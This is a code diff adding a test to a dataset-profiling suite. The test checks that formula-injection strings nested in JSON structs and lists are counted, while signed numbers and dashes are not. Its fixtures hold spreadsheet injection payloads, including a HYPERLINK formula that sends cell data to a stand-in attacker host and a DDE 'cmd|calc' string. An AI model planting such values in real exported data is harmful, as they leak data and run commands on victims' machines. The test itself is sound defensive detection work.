@@ -166,6 +166,21 @@ describe('column metrics', async () => {
   });
 });
 
+describe('nested values', () => {
+  it('count a formula in any string of a struct or list, but not signed numbers or dashes there', async () => {
+    const lines = [
+      { id: 1, user: { name: '=HYPERLINK("http://evil.example/?"&A1)', path: 'a.txt' }, tags: ['ok'] },
+      { id: 2, user: { name: '-5', path: '--' }, tags: ['-', '+1', '@'] },
+      { id: 3, user: { name: 'bob', path: 'b.txt' }, tags: ['x', '\t=cmd|calc'] },
+      { id: 4, user: { name: 'ann', path: 'c.txt' }, tags: ['+SUM(A1:A9)'] },
+    ].map((r) => JSON.stringify(r));
+    const profile = await profileDataset({ engine: 'duckdb', file: write('nested.jsonl', `${lines.join('\n')}\n`) });
+    expect(column(profile, 'user').signals.formulaPrefix.count).toBe(1);
+    expect(column(profile, 'tags').signals.formulaPrefix.count).toBe(2);
+    expect(column(profile, 'id').signals.formulaPrefix.count).toBe(0);
+  });
+});
+
 describe('type mismatches', () => {
   it('counts values that do not parse as the inferred type (sniffed from the first rows)', async () => {
     const lines = ['n'];
